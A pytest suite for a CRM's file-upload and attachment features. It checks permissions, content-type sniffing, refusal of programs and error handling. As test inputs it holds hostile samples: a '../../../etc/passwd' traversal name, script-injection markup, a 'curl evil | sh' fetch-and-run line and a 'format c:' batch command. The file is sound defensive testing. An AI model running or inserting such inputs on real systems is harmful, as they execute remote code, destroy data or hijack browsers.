"""Files and attachments on the local file system, on SQLite and PostgreSQL: the shared
storage cases (files_cases.py), permissions (an invisible record or a hidden field is a
404, reading is not editing), sniffed types and refusals, the file-field rules, and no
server error on bad input."""

from __future__ import annotations

import io
import os
from collections.abc import Callable
from pathlib import Path

import pytest

from crmforge.runtime import Instance
from crmforge.runtime.files.storage import LocalStore, S3Store, StorageSettingError, store_from_env

from .conftest import error_of
from .files_cases import CASES, PDF, World, png


@pytest.fixture
def world(instance: Instance) -> World:
    return World.make(instance)


@pytest.mark.parametrize("case", CASES, ids=lambda c: c.__name__)
def test_local_storage(world: World, case: Callable[[World], None]) -> None:
    case(world)


def test_contents_live_under_the_instance_by_tenant(world: World, instance: Instance) -> None:
    up = world.upload(PDF, "../../../etc/passwd").json
    assert up["name"] == "passwd"
    store = instance.blob_store()
    assert isinstance(store, LocalStore)
    files = [p for p in (instance.path / "files").rglob("*") if p.is_file()]
    assert len(files) == 1
    assert files[0].parent.parent == instance.path / "files" / "default"
    assert files[0].read_bytes() == PDF
    assert "passwd" not in str(files[0])  # keys are random, never the name
    assert oct(files[0].parent.stat().st_mode & 0o777) == "0o700"


# -- permissions ------------------------------------------------------------------------------
def test_an_invisible_record_answers_404_like_the_record(world: World) -> None:
    up = world.upload(PDF, "c.pdf").json
    rid = world.deal(contract=up["id"])["id"]  # owned by admin; the outsider sees own only
    att = world.attach(rid, b"secret minutes", "m.txt").json
    outsider = world.users["outsider"]
    for path in (f"/api/v1/records/deal/{rid}", f"/api/v1/records/deal/{rid}/files/contract",
                 f"/api/v1/records/deal/{rid}/attachments",
                 f"/api/v1/records/deal/{rid}/attachments/{att['id']}",
                 f"/api/v1/records/deal/{rid}/attachments/{att['id']}?preview=1"):
        r = world.get(path, outsider)
        assert r.status_code == 404, path
        assert error_of(r)["code"] == "not_found"
    r = world.attach(rid, b"x", "x.txt", outsider)
    assert r.status_code == 404
    r = world.client.delete(f"/api/v1/records/deal/{rid}/attachments/{att['id']}",
                            headers=outsider)
    assert r.status_code == 404
    assert world.get("/api/v1/recycle-bin/files", outsider).json["items"] == []
    # Their own record is theirs to attach to.
    own = world.deal(outsider)["id"]
    assert world.attach(own, b"mine", "mine.txt", outsider).status_code == 201


def test_a_hidden_file_field_answers_404(world: World) -> None:
    up = world.upload(PDF, "c.pdf").json
    rid = world.deal(contract=up["id"])["id"]
    hider = world.users["hider"]
    record = world.get(f"/api/v1/records/deal/{rid}", hider).json
    assert "contract" not in record
    r = world.get(f"/api/v1/records/deal/{rid}/files/contract", hider)
    assert r.status_code == 404
    assert "contract" in error_of(r)["message"]  # no such field, as for an unknown one
    assert world.get(f"/api/v1/records/deal/{rid}/files/nothing", hider).status_code == 404
    # Its history and its removed files stay hidden too.
    second = world.upload(b"v2", "v2.txt").json
    assert world.set_field(rid, "contract", second["id"]).status_code == 200
    assert not [h for h in world.get(f"/api/v1/records/deal/{rid}/history", hider).json["items"]
                if h["field"] == "contract"]
    assert world.get("/api/v1/recycle-bin/files", hider).json["items"] == []
    assert len(world.get("/api/v1/recycle-bin/files").json["items"]) == 1
    # A writer may not set a field hidden from them.
    mine = world.upload(b"mine", "mine.txt", hider).json
    r = world.set_field(rid, "contract", mine["id"], hider)
    assert r.status_code == 403


def test_reading_is_not_editing(world: World) -> None:
    rid = world.deal()["id"]
    att = world.attach(rid, b"notes", "n.txt").json
    reader = world.users["reader"]
    assert world.get(f"/api/v1/records/deal/{rid}/attachments", reader).json["items"][0]["id"] \
        == att["id"]
    assert world.get(f"/api/v1/records/deal/{rid}/attachments/{att['id']}", reader).data \
        == b"notes"
    before = world.keys()
    r = world.attach(rid, b"more", "more.txt", reader)
    assert r.status_code == 403 and error_of(r)["code"] == "forbidden"
    assert world.keys() == before  # refused before anything was stored
    r = world.client.delete(f"/api/v1/records/deal/{rid}/attachments/{att['id']}",
                            headers=reader)
    assert r.status_code == 403
    up = world.upload(b"reader's", "r.txt", reader)
    assert up.status_code == 201  # an upload alone changes no record
    assert world.set_field(rid, "contract", up.json["id"], reader).status_code == 403
    r = world.client.post(f"/api/v1/records/deal/{rid}/attachments/{att['id']}/restore",
                          headers=reader)
    assert r.status_code == 403
    r = world.client.delete(f"/api/v1/recycle-bin/deal/{rid}/files/{att['id']}",
                            headers=world.users["editor"])
    assert r.status_code == 403  # purging is for administrators


def test_a_file_id_is_the_uploaders_and_used_once(world: World) -> None:
    editor = world.users["editor"]
    theirs = world.upload(PDF, "admin.pdf").json
    rid = world.deal(editor)["id"]
    r = world.set_field(rid, "contract", theirs["id"], editor)
    assert r.status_code == 422 and "contract" in error_of(r)["fields"]
    mine = world.upload(PDF, "mine.pdf", editor).json
    assert world.set_field(rid, "contract", mine["id"], editor).status_code == 200
    other = world.deal(editor)["id"]
    r = world.set_field(other, "contract", mine["id"], editor)  # already attached
    assert r.status_code == 422
    att = world.attach(other, b"attached", "a.txt", editor).json
    assert world.set_field(other, "contract", att["id"], editor).status_code == 422
    for bad in (999_999, "abc", 1.5, True, [1], {"name": "x"}, 2**70, -1):
        r = world.set_field(other, "contract", bad, editor)
        assert r.status_code == 422, bad
        assert error_of(r)["fields"].get("contract"), bad
    # Creating with a file sets it at once.
    fresh = world.upload(PDF, "new.pdf", editor).json
    created = world.deal(editor, contract=fresh["id"])
    assert created["contract"]["name"] == "new.pdf"
    # Filters: isnull.
    r = world.get("/api/v1/records/deal?contract__isnull=false&fields=title", editor)
    assert sorted(i["id"] for i in r.json["items"]) == sorted([rid, created["id"]])
    r = world.get("/api/v1/records/deal?contract__isnull=true", editor)
    assert [i["id"] for i in r.json["items"]] == [other]


def test_field_limits_size_and_type(world: World) -> None:
    rid = world.deal()["id"]
    doc = world.upload(PDF, "a.pdf").json
    r = world.set_field(rid, "photo", doc["id"])
    assert r.status_code == 422
    assert error_of(r)["fields"]["photo"] == ["files of type application/pdf are not accepted here"]
    big = world.upload(png()[:64] + os.urandom(110_000), "big.png").json
    r = world.set_field(rid, "photo", big["id"])
    assert r.status_code == 422 and "limit of 98 KB" in error_of(r)["fields"]["photo"][0]
    small = world.upload(png(), "p.png").json
    assert world.set_field(rid, "photo", small["id"]).status_code == 200
    thumb = world.get(f"/api/v1/records/deal/{rid}/files/photo?preview=true")
    assert thumb.status_code == 200 and thumb.headers["Content-Type"] == "image/jpeg"
    r = world.client.post("/api/v1/meta/objects/deal/fields", headers=world.admin, json={
        "name": "scan", "type": "file", "accept": ["<script>"], "default": "1"})
    assert r.status_code == 422
    assert set(error_of(r)["fields"]) >= {"$.fields[3].accept", "$.fields[3].default"}


# -- what a file is -------------------------------------------------------------------------
def test_the_sniffed_type_beats_the_client(world: World) -> None:
    r = world.upload(png(), "holiday.pdf", content_type="application/pdf")
    assert r.status_code == 201 and r.json["content_type"] == "image/png"
    r = world.upload(PDF, "invoice.png", content_type="image/png")
    assert r.json["content_type"] == "application/pdf"
    # Markup is stored but only ever downloaded, as opaque bytes, never rendered.
    rid = world.deal()["id"]
    for data, name in ((b"<html><script>alert(document.cookie)</script></html>", "a.txt"),
                       (b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>', "a.png")):
        att = world.attach(rid, data, name, content_type="text/plain")
        assert att.status_code == 201
        got = world.get(f"/api/v1/records/deal/{rid}/attachments/{att.json['id']}")
        assert got.headers["Content-Type"] == "application/octet-stream"
        assert got.headers["Content-Disposition"].startswith("attachment;")
        assert got.headers["X-Content-Type-Options"] == "nosniff"
        assert "sandbox" in got.headers["Content-Security-Policy"]
        assert world.get(f"/api/v1/records/deal/{rid}/attachments/{att.json['id']}"
                         "?preview=1").status_code == 404


@pytest.mark.parametrize(("data", "name"), [
    (b"MZ\x90\x00\x03\x00\x00\x00\x04\x00" + b"\x00" * 400, "report.pdf"),
    (b"\x7fELF\x02\x01\x01" + b"\x00" * 400, "data.bin"),
    (b"#!/bin/sh\ncurl evil | sh\n", "readme.txt"),
    (b"@echo off\r\nformat c:\r\n", "cleanup.bat"),
    (b"just text", "setup.EXE"),
])
def test_programs_are_refused(world: World, data: bytes, name: str) -> None:
    before = world.keys()
    r = world.upload(data, name, content_type="application/pdf")
    assert r.status_code == 422, r.json
    assert error_of(r)["fields"]["file"] == [
        "programs and scripts are not accepted (put them in a zip file)"]
    rid = world.deal()["id"]
    assert world.attach(rid, data, name).status_code == 422
    assert world.keys() == before


def test_allow_list_and_size_from_settings(instance: Instance) -> None:
    w = World.make(instance, CRMFORGE_FILES_ALLOW_TYPES="image/*,application/pdf",
                   CRMFORGE_FILES_MAX_BYTES=50_000)
    assert w.upload(PDF, "a.pdf").status_code == 201
    r = w.upload(b"plain", "a.txt")
    assert r.status_code == 422
    assert error_of(r)["fields"]["file"] == ["files of type text/plain are not accepted"]
    r = w.upload(b"x" * 50_001, "b.pdf")
    assert r.status_code == 413 and "limit of 49 KB" in error_of(r)["message"]


def test_a_chinese_name_round_trips(world: World) -> None:
    rid = world.deal()["id"]
    name = "二〇二四年 合同（终稿）.docx"
    att = world.attach(rid, b"PK\x03\x04 not really a docx", name).json
    assert att["name"] == name
    listed = world.get(f"/api/v1/records/deal/{rid}/attachments").json["items"]
    assert listed[0]["name"] == name
    got = world.get(f"/api/v1/records/deal/{rid}/attachments/{att['id']}")
    disposition = got.headers["Content-Disposition"]
    encoded = disposition.split("filename*=UTF-8''", 1)[1]
    from urllib.parse import unquote
    assert unquote(encoded) == name
    assert 'filename="file.docx"' in disposition


# -- no server error on bad input -------------------------------------------------------------
def test_bad_requests_answer_with_the_envelope(world: World) -> None:
    rid = world.deal()["id"]
    c, h = world.client, world.admin
    cases = [
        (c.post("/api/v1/files", headers=h), 400),  # no body at all
        (c.post("/api/v1/files", headers=h, json={"file": "x"}), 400),  # not multipart
        (c.post("/api/v1/files", headers=h, data={"other": (io.BytesIO(b"x"), "a.txt")}), 400),
        (c.post("/api/v1/files", headers=h, data={"file": "just a form field"}), 400),
        (c.post("/api/v1/files", headers=h, data={"file": (io.BytesIO(b""), "")}), 400),
        (c.post("/api/v1/files", headers=h, data={"file": (io.BytesIO(b""), "empty.txt")}), 422),
        (c.post("/api/v1/files", data={"file": (io.BytesIO(b"x"), "a.txt")}), 401),
        (c.post("/api/v1/records/nothing/1/attachments", headers=h,
                data={"file": (io.BytesIO(b"x"), "a.txt")}), 404),
        (c.post(f"/api/v1/records/deal/{rid}/attachments", headers=h), 400),
        (c.get("/api/v1/records/nothing/1/attachments", headers=h), 404),
        (c.get("/api/v1/records/deal/abc/attachments", headers=h), 404),
        (c.get("/api/v1/records/deal/99999999999999999999999/attachments", headers=h), 404),
        (c.get(f"/api/v1/records/deal/{rid}/attachments/abc", headers=h), 404),
        (c.get(f"/api/v1/records/deal/{rid}/attachments/99999999999999999999999", headers=h), 404),
        (c.get(f"/api/v1/records/deal/{rid}/attachments/424242", headers=h), 404),
        (c.delete(f"/api/v1/records/deal/{rid}/attachments/424242", headers=h), 404),
        (c.post(f"/api/v1/records/deal/{rid}/attachments/424242/restore", headers=h), 404),
        (c.get(f"/api/v1/records/deal/{rid}/files/title", headers=h), 404),  # not a file field
        (c.get(f"/api/v1/records/deal/{rid}/files/contract", headers=h), 404),  # empty
        (c.get(f"/api/v1/records/deal/{rid}/files/%00", headers=h), 400),
        (c.delete(f"/api/v1/recycle-bin/deal/{rid}/files/424242", headers=h), 404),
        (c.put("/api/v1/files", headers=h), 405),
        (c.post("/api/v1/files", data=b"garbage",
                headers={**h, "Content-Type": "multipart/form-data"}), 400),
        (c.post("/api/v1/files", data=b'--xyz\r\nContent-Disposition: form-data; name="file"; '
                b'filename="a.txt"\r\n\r\ncut short',
                headers={**h, "Content-Type": "multipart/form-data; boundary=xyz"}), 400),
        (c.post("/api/v1/files", data=b"raw bytes",
                headers={**h, "Content-Type": "application/octet-stream"}), 400),
    ]
    for i, (r, status) in enumerate(cases):
        assert r.status_code == status, (i, r.status_code, r.data[:300])
        error_of(r)
    # An attachment is addressed through its own record only.
    other = world.deal()["id"]
    att = world.attach(rid, b"mine", "a.txt").json
    assert world.get(f"/api/v1/records/deal/{other}/attachments/{att['id']}").status_code == 404
    r = c.delete(f"/api/v1/records/deal/{other}/attachments/{att['id']}", headers=h)
    assert r.status_code == 404


def test_a_missing_content_is_a_404_not_a_server_error(world: World, instance: Instance) -> None:
    rid = world.deal()["id"]
    att = world.attach(rid, b"soon gone", "a.txt").json
    for path in (instance.path / "files").rglob("*"):
        if path.is_file():
            path.unlink()
    r = world.get(f"/api/v1/records/deal/{rid}/attachments/{att['id']}")
    assert r.status_code == 404
    assert "missing" in error_of(r)["message"]


def test_an_unwritable_store_is_a_503(world: World, instance: Instance) -> None:
    blocker = instance.path / "files"
    blocker.mkdir(exist_ok=True)
    (blocker / "default").write_text("a file where the tenant's folder should be")
    r = world.upload(PDF, "a.pdf")
    assert r.status_code == 503 and error_of(r)["code"] == "unavailable"


def test_store_settings(tmp_path: Path) -> None:
    local = store_from_env(tmp_path, {})
    assert isinstance(local, LocalStore) and local.root == tmp_path / "files"
    other = store_from_env(tmp_path, {"CRMFORGE_FILES_DIR": str(tmp_path / "elsewhere")})
    assert isinstance(other, LocalStore) and other.root == tmp_path / "elsewhere"
    s3 = store_from_env(tmp_path, {"CRMFORGE_FILES_BACKEND": "s3", "CRMFORGE_S3_BUCKET": "b",
                                   "CRMFORGE_S3_ENDPOINT_URL": "http://127.0.0.1:9",
                                   "CRMFORGE_S3_PREFIX": "crm", "CRMFORGE_S3_REGION": "x"})
    assert isinstance(s3, S3Store) and s3.prefix == "crm/" and s3.bucket == "b"
    for env in ({"CRMFORGE_FILES_BACKEND": "ftp"}, {"CRMFORGE_FILES_BACKEND": "s3"},
                {"CRMFORGE_FILES_BACKEND": "s3", "CRMFORGE_S3_BUCKET": "b",
                 "CRMFORGE_S3_ENDPOINT_URL": "file:///etc"},
                {"CRMFORGE_FILES_BACKEND": "s3", "CRMFORGE_S3_BUCKET": "b",
                 "CRMFORGE_S3_PREFIX": "../x y"}):
        with pytest.raises(StorageSettingError, match="CRMFORGE_"):
            store_from_env(tmp_path, env)


def test_a_bad_store_setting_stops_the_app(instance: Instance, monkeypatch: pytest.MonkeyPatch
                                           ) -> None:
    from crmforge.web import create_app

    monkeypatch.setitem(os.environ, "CRMFORGE_FILES_BACKEND", "ftp")
    fresh = Instance.open(instance.path)
    try:
        with pytest.raises(StorageSettingError, match="CRMFORGE_FILES_BACKEND"):
            create_app(fresh)
    finally:
        fresh.dispose()


# -- clean-up ---------------------------------------------------------------------------------
def test_prune_deletes_stale_uploads_and_old_removed_files(world: World,
                                                           instance: Instance) -> None:
    import datetime as dt

    from click.testing import CliRunner

    from crmforge.cli import main
    from crmforge.core import clock

    rid = world.deal()["id"]
    two_days_ago = dt.datetime.now(dt.UTC) - dt.timedelta(days=2)
    clock.set_clock(lambda: two_days_ago)
    try:
        stale = world.upload(b"never attached", "stale.txt").json
        used = world.upload(PDF, "used.pdf").json
        old_removed = world.attach(rid, b"removed long ago", "old.txt").json
        world.client.delete(f"/api/v1/records/deal/{rid}/attachments/{old_removed['id']}",
                            headers=world.admin)
    finally:
        clock.set_clock(None)
    assert world.set_field(rid, "contract", used["id"]).status_code == 200
    fresh = world.upload(b"just uploaded", "fresh.txt").json
    kept = world.attach(rid, b"kept", "kept.txt").json
    before = world.keys()
    result = CliRunner().invoke(main, ["files", "prune", "--instance", str(instance.path)])
    assert result.exit_code == 0, result.output
    assert "default: deleted 1 unattached uploads older than 24 hours" in result.output
    assert len(before - world.keys()) == 1  # the stale upload only
    assert world.set_field(rid, "contract", stale["id"]).status_code == 422
    assert world.set_field(rid, "contract", fresh["id"]).status_code == 200
    # Removed files stay restorable until a retention period is given.
    assert [f["id"] for f in world.get("/api/v1/recycle-bin/files").json["items"]] == [
        used["id"], old_removed["id"]]
    result = CliRunner().invoke(main, ["files", "prune", "--instance", str(instance.path),
                                       "--removed-older-than-days", "1"])
    assert result.exit_code == 0, result.output
    assert "and 1 removed files older than 1 days" in result.output
    assert [f["id"] for f in world.get("/api/v1/recycle-bin/files").json["items"]] == [used["id"]]
    assert world.get(f"/api/v1/records/deal/{rid}/attachments/{kept['id']}").data == b"kept"


def test_purging_a_file_field_or_an_object_deletes_its_files(world: World) -> None:
    c, h = world.client, world.admin
    up = world.upload(PDF, "c.pdf").json
    rid = world.deal(contract=up["id"])["id"]
    world.attach(rid, b"attached", "a.txt")
    before = len(world.keys())
    assert c.delete("/api/v1/meta/objects/deal/fields/contract", headers=h).status_code == 204
    assert len(world.keys()) == before  # removed, not purged: restorable with its data
    assert c.post("/api/v1/meta/objects/deal/fields/contract/restore",
                  headers=h).status_code == 200
    assert world.get(f"/api/v1/records/deal/{rid}/files/contract").data == PDF
    assert c.delete("/api/v1/meta/objects/deal/fields/contract", headers=h).status_code == 204
    r = c.delete("/api/v1/meta/recycle-bin/objects/deal/fields/contract", headers=h)
    assert r.status_code == 204
    assert len(world.keys()) == before - 1
    assert c.delete("/api/v1/meta/objects/deal", headers=h).status_code == 204
    assert c.delete("/api/v1/meta/recycle-bin/objects/deal", headers=h).status_code == 204
    assert len(world.keys()) == before - 2


def test_the_openapi_document_describes_files(world: World) -> None:
    from openapi_spec_validator import validate

    doc = world.get("/api/v1/openapi.json").json
    validate(doc)
    for path in ("/api/v1/files", "/api/v1/records/{object}/{id}/files/{field}",
                 "/api/v1/records/{object}/{id}/attachments",
                 "/api/v1/records/{object}/{id}/attachments/{attachment}",
                 "/api/v1/recycle-bin/files"):
        assert path in doc["paths"], path
    schemas = doc["components"]["schemas"]
    deal = schemas["DealRecord"]["properties"]["contract"]
    assert deal["anyOf"][0] == {"$ref": "#/components/schemas/FileValue"}
    assert schemas["FileValue"]["required"] == ["id", "name", "size", "content_type"]
    patch = schemas["DealRecordPatch"]["properties"]["contract"]
    assert patch["anyOf"][0]["oneOf"][0]["type"] == "integer"
    params = {p["name"] for p in doc["paths"][
        "/api/v1/records/{object}/{id}/attachments/{attachment}"]["get"]["parameters"]
        if "name" in p}
    assert params == {"preview", "download"}
